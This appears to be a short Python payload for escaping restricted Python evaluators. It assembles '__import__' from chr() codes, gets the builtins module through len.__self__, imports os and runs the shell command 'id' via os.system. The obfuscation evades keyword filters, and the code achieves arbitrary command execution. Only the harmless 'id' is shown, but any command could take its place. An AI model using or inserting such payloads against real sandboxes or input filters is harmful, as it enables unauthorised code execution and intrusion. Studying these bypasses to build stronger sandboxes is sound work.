# chr() arithmetic yields "__import__"; the builtins module comes from len's owner.
under = chr(95) * 2
owner = len.__self__
imp = getattr(owner, under + "import" + under)
imp("os").system("id")
